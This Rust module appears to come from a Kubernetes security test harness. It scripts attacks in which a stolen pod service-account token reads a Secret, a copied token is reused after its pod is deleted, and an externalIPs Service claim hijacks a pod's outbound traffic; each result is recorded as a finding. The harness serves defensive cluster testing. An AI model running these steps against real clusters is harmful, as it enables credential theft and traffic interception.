//! Attacks on `pod-to-apiserver`: what a pod's token is worth to a thief.

use super::apiserver_access::marker_secret;
use super::components_to_apiserver::words;
use super::fake_hub;
use super::question::Question;
use super::scene::{Account, PHONE, SYSTEM, Scene};
use super::{AttackError, Evidence, Finding, Wishes};

/// phone-home's token, taken from its pod, reads a Secret.
pub fn rbac(scene: &mut Scene, _: &Wishes) -> Result<Finding, AttackError> {
    let question = marker_secret(scene)?;
    let answer = scene.ask_from_pod(Account::System(PHONE), &question)?;
    let gained = "the token of one pod is the whole cluster's key";
    Ok(Finding::by_answer(&answer, "GET the marker's Secret with phone-home's token", gained, &["403"]))
}

/// A token is copied, its pod deleted, the copy used.
pub fn token(scene: &mut Scene, _: &Wishes) -> Result<Finding, AttackError> {
    let account = Account::System(PHONE);
    let pod = scene.pod(None, account, &words(&["sleep", "600"]))?;
    // What pods were given before v1.24, where the cluster still has it; else what they are given now. Two,
    // because the API server remembers for ten seconds that a token was good.
    let legacy = scene.secret_field(SYSTEM, "phone-home-token", "token");
    let (used, token) = match legacy {
        Some(token) => (token.clone(), token),
        None => (scene.token(SYSTEM, PHONE, Some(&pod))?, scene.token(SYSTEM, PHONE, Some(&pod))?),
    };
    let url = format!("{}/apis", crate::lab::plan::endpoint());
    let question = Question::get(&url).find("APIGroupList");
    let before = scene.ask_from_host("wire", Some(&used), &question)?;
    scene.delete_pod(&pod)?;
    let after = scene.ask_from_host("wire", Some(&token), &question)?;
    let gained = "the copy of a token outlived its pod";
    let mut finding =
        Finding::by_answer(&after, "GET /apis with the copy, after the pod's end", gained, &["401"]);
    finding.evidence.push(super::answered("GET /apis with such a token, while the pod ran", &before));
    finding.evidence.push(claims(&token));
    if !before.found {
        return Ok(Finding::inconclusive("the token did not work while its pod ran", finding.evidence));
    }
    Ok(finding)
}

/// An address no role uses (TEST-NET-3).
const UNUSED: &str = "203.0.113.7";

/// Somebody who may edit a namespace claims an address outside the cluster; a pod that dials it reaches them.
pub fn external_ips(scene: &mut Scene, _: &Wishes) -> Result<Finding, AttackError> {
    let namespace = scene.namespace()?;
    let page = words(&["attacker", "page", "--port", "8080", &scene.marker.clone()]);
    let pod = scene.pod(None, Account::Nobody, &page)?;
    scene.grant_edit(&namespace)?;
    let token = scene.token(&namespace, "default", None)?;
    let service = serde_json::json!({
        "apiVersion": "v1", "kind": "Service", "metadata": {"name": "claim"},
        "spec": {
            "externalIPs": [UNUSED],
            "ports": [{"port": 80, "targetPort": 8080}],
            "selector": pod.metadata.labels,
        },
    });
    let url = format!("{}/api/v1/namespaces/{namespace}/services", crate::lab::plan::endpoint());
    let claim = Question::get(&url).method("POST").json("application/json", &service);
    let claimed = scene.ask_from_host("wire", Some(&token), &claim)?;
    let asked = format!("POST a Service that claims {UNUSED}, with the role edit");
    if claimed.status != Some(201) {
        return Ok(Finding::by_answer(&claimed, &asked, "", &["Use of external IPs is denied"]));
    }
    // The victim dials until the nodes have heard of the Service.
    let question = Question::get(format!("http://{UNUSED}/")).find(&scene.marker.clone()).patient();
    let answer = scene.ask_from_pod(Account::Nobody, &question)?;
    let gained = "a pod that dialled an address outside the cluster reached the attacker's pod";
    let mut finding = Finding::by_answer(&answer, &format!("GET http://{UNUSED}/ from a pod"), gained, &[]);
    finding.evidence.push(super::answered(&asked, &claimed));
    Ok(finding)
}

/// What a token says of itself: until when, bound to what.
fn claims(token: &str) -> Evidence {
    let claims = fake_hub::claims(token);
    let life = claims["exp"].as_i64().zip(claims["iat"].as_i64()).map(|(end, start)| end - start);
    let life =
        life.map_or_else(|| "no exp: it never ends".to_owned(), |life| format!("exp - iat = {life} s"));
    let bound = claims["kubernetes.io"]["pod"]["name"].as_str();
    let bound = bound.map_or_else(|| "bound to no pod".to_owned(), |pod| format!("bound to pod {pod}"));
    Evidence { kind: "answer", what: "the token's own claims".into(), sample: format!("{life}; {bound}") }
}
